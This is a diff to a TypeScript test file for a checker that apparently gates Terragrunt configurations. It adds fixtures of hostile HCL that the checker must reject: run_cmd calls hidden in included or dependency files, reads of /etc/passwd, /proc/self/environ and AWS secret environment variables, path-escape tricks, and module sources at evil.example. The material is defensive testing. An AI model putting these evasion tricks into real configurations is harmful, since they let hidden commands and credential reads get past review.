@@ -4,6 +4,27 @@ import { type Files, gated, rulesOf } from './gated.ts';
 const backend = { type: 'azurerm', config: { container_name: 'state', key: '{path}/terraform.tfstate' } };
 const stacks = [{ binary: 'terragrunt', backend, reads: ['network/**'] }];
 
+/** Another file, beside one that a reader may take it for, is what Terragrunt reads. */
+const elsewhere = [
+  [
+    'include { path = "../root.hcl" }\nlocals { e = read_terragrunt_config("${get_parent_terragrunt_dir()}/e.hcl") }',
+    'prod/e.hcl',
+  ],
+  [
+    'include { path = "../root.hcl" }\nlocals { e = read_terragrunt_config("./${path_relative_to_include()}/e.hcl") }',
+    'prod/vpc/vpc/e.hcl',
+  ],
+  [
+    'locals { e = read_terragrunt_config("\\u0024{get_terragrunt_dir()}/e.hcl") }',
+    'prod/vpc/${get_terragrunt_dir()}/e.hcl',
+  ],
+  ['locals { e = read_terragrunt_config("x ${~ "/e.hcl"}") }', 'prod/vpc/x/e.hcl'],
+  ['locals { e = read_terragrunt_config("${dirname("\\u0000a/../x/y")}/e.hcl") }', 'prod/vpc/x/e.hcl'],
+  ['include "r" { path = "${dirname("${get_terragrunt_dir()}/x/")}/e.hcl" }', 'prod/vpc/x/e.hcl'],
+  ['include "r" { path = find_in_parent_folders("") }', 'prod/terragrunt.hcl'],
+  ['locals { e = read_terragrunt_config(<<E\ne.hcl\nE\n) }', 'prod/vpc/e.hcl\n'],
+] as const;
+
 const disguises: Readonly<Record<string, readonly (string | Files)[]>> = {
   'run-cmd': [
     'locals {\n  x = run_cmd("id")\n}',
@@ -29,6 +50,18 @@ const disguises: Readonly<Record<string, readonly (string | Files)[]>> = {
     {
       'terragrunt.hcl': 'dependency "n" { config_path = "../../network/eu" }',
       'network/eu/terragrunt.hcl': 'locals { x = run_cmd("id") }',
+    },
+    {
+      'terragrunt.hcl': 'include "r" { path = find_in_parent_folders() }',
+      'prod/terragrunt.hcl.json': '{"locals": {"x": "${run_cmd(\\"id\\")}"}}',
+      './terragrunt.hcl': '',
+    },
+    {
+      'terragrunt.hcl': 'include "r" { path = "${dirname(find_in_parent_folders("x"))}/app.hcl" }',
+      'prod/x/keep': '',
+      'prod/app.hcl': 'locals { x = run_cmd("id") }',
+      './x': '',
+      './app.hcl': '',
     },
   ],
   hook: [
@@ -62,10 +95,11 @@ const disguises: Readonly<Record<string, readonly (string | Files)[]>> = {
   ],
   'backend-credentials': ['remote_state {\n  backend = "azurerm"\n  config = { access_key = "x" }\n}'],
   'remote-state': [
-    'dependency "x" { config_path = "../other" }',
-    'dependency "x" { config_path = local.x }',
-    'dependency "x" { config_path = "/prod/other" }',
-    { 'terragrunt.hcl.json': '{"dependency": {"x": {"config_path": "../other"}}}' },
+    { 'terragrunt.hcl': 'dependency "x" { config_path = "../other" }', 'prod/other/terragrunt.hcl': '' },
+    {
+      'terragrunt.hcl.json': '{"dependency": {"x": {"config_path": "../other"}}}',
+      'prod/other/terragrunt.hcl.json': '{}',
+    },
   ],
   terragrunt: [
     'terraform_binary = "/tmp/x"',
@@ -73,17 +107,45 @@ const disguises: Readonly<Record<string, readonly (string | Files)[]>> = {
     'download_dir = "/tmp"',
     'engine {\n  source = "x"\n}',
     'something_new = 1',
+    'remote_state {\n  backend = "azurerm"\n  config = {}\n  encryption = { key_provider = "external" }\n}',
+    'terraform {\n  source = "."\n  include_in_copy = [".hidden"]\n}',
     'locals { x = sops_decrypt_file("x.enc") }',
     'locals { x = get_env("AWS_SECRET_ACCESS_KEY") }',
     'locals { x = get_env(local.y) }',
     'include "root" { path = "/etc/x.hcl" }',
     'include "root" { path = "../../../../x.hcl" }',
     'include "root" { path = find_in_parent_folders("missing.hcl") }',
-    'include "root" { path = "${get_repo_root()}/x.hcl" }',
+    'locals { x = get_repo_root() }',
+    'locals { x = file("${get_path_to_repo_root()}/x") }',
     'include "root" { path = local.x }',
     'include "root" {}',
     'locals { x = read_terragrunt_config(local.x) }',
     'locals { x = read_terragrunt_config(find_in_parent_folders("a.hcl") + dirname("x")) }',
+    'locals { x = read_terragrunt_config("missing.hcl") }',
+    { 'terragrunt.hcl': 'locals { x = read_terragrunt_config("d", {}) }', 'prod/vpc/d/terragrunt.hcl': '' },
+    'locals { x = read_terragrunt_config(find_in_parent_folders("missing.hcl", "x.hcl"), {}) }',
+    'dependency "x" { config_path = local.x }',
+    'dependency "x" { config_path = "/prod/other" }',
+    'dependency "x" { config_path = "../../network/missing" }',
+    {
+      'terragrunt.hcl': 'dependency "x" { config_path = "../../network/eu/evil.hcl" }',
+      'network/eu/evil.hcl': 'locals { x = run_cmd("id") }',
+    },
+    ...elsewhere.map(([text, read]) => ({
+      'terragrunt.hcl': text,
+      'prod/root.hcl': '',
+      'e.hcl': '',
+      'x/e.hcl': '',
+      'prod/vpc/x /e.hcl': '',
+      './x/e.hcl': '',
+      [read]: 'locals { x = run_cmd("id") }',
+    })),
+    ...['../network/eu', '../../network/eu'].map(path => ({
+      'terragrunt.hcl': 'include "r" {\n  path = "../root.hcl"\n  expose = true\n}',
+      'prod/root.hcl': `dependency "n" { config_path = "${path}" }`,
+      'network/eu/terragrunt.hcl': '',
+      'prod/network/eu/terragrunt.hcl': '',
+    })),
   ],
   'module-source': [
     'terraform { source = "git::https://evil.example/x.git?ref=v1.0.0" }',
@@ -91,15 +153,52 @@ const disguises: Readonly<Record<string, readonly (string | Files)[]>> = {
     'terraform { source = "${get_env("X")}" }',
     'terraform { source = "tfr:///evil/x/aws?version=1.0.0" }',
     'terraform { source = "../missing" }',
+    ...['../../modules/m', '../..//modules/m/.', '../../modules//m'].map(source => ({
+      'terragrunt.hcl': `terraform { source = "${source}" }`,
+      'modules/m/main.tf': 'module "out" { source = "../../../n" }',
+      'n/main.tf': '',
+    })),
+    {
+      'terragrunt.hcl': 'terraform { source = "../../modules/m" }',
+      'modules/m/main.tf': 'module "n" { source = "../n" }',
+      'modules/n/main.tf': '',
+    },
     { 'terragrunt.hcl': 'include "root" { path = "../root.hcl" }', 'prod/root.hcl': 'terraform { source = "/etc" }' },
   ],
-  'file-path': ['locals { x = file("/etc/passwd") }', 'inputs = { x = read_tfvars_file("/etc/x") }'],
+  'file-path': [
+    'locals { x = file("/etc/passwd") }',
+    'inputs = { x = read_tfvars_file("/etc/x") }',
+    {
+      'terragrunt.hcl': 'inputs = { x = templatefile("t.tpl", {}) }',
+      't.tpl': '${file("/proc/self/environ")}',
+    },
+    {
+      'terragrunt.hcl': 'include "r" { path = find_in_parent_folders("root.hcl") }',
+      './root.hcl': 'locals { x = file("../beside-the-checkout") }',
+    },
+  ],
   'external-data': [
     { 'terragrunt.hcl': 'terraform { source = "../../modules//m" }', 'modules/m/main.tf': 'data "external" "x" {}' },
     {
       'terragrunt.hcl': 'terraform { source = "${dirname(find_in_parent_folders("root.hcl"))}/../modules//m" }',
       'prod/root.hcl': '',
       'modules/m/main.tofu': 'data "external" "x" {}',
+    },
+    {
+      'terragrunt.hcl': 'terraform { source = "../../modules//m" }',
+      'modules/m/main.tf': 'module "s" { source = "./s" }',
+      'modules/m/s/main.tf': '',
+      'prod/vpc/s/more.tf': 'data "external" "x" {}',
+    },
+    {
+      'terragrunt.hcl': 'terraform { source = "../../modules//m" }',
+      'main.tf': 'module "s" { source = "./s" }',
+      'prod/vpc/s/main.tf': '',
+      'modules/m/s/more.tf': 'data "external" "x" {}',
+    },
+    {
+      'terragrunt.hcl': 'terraform { source = "../../modules/m" }',
+      'modules/m/main.tf': 'data "external" "x" {}',
     },
     { 'terragrunt.hcl': '', 'main.tf': 'data "external" "x" {}' },
   ],
@@ -124,6 +223,8 @@ test('lets an ordinary stack of Terragrunt through', async () => {
 include "env" { path = "\${get_terragrunt_dir()}/../../_env/app.hcl" }
 locals {
   env    = read_terragrunt_config(find_in_parent_folders("env.hcl"))
+  common = read_terragrunt_config(find_in_parent_folders("env.hcl", "none.hcl"))
+  maybe  = read_terragrunt_config("maybe.hcl", { locals = {} })
   region = get_env("REGION", "eu-west-1")
 }
 terraform { source = "../../modules//m" }
@@ -147,7 +248,9 @@ skip = false`,
 }`,
     '_env/app.hcl': 'inputs = { size = 1 }',
     'prod/env.hcl': 'locals { tags = { env = "prod" } }',
-    'modules/m/main.tf': 'resource "aws_x" "y" {}',
+    'modules/m/main.tf': 'module "n" { source = "../n" }',
+    'modules/n/main.tf': 'resource "aws_x" "y" {}',
+    'modules/unused/main.tf': 'data "external" "x" {}',
     'network/eu/terragrunt.hcl': 'include { path = "../../root.hcl" }',
     'network/eu/main.tf': 'output "vpc_id" { value = "x" }',
   };
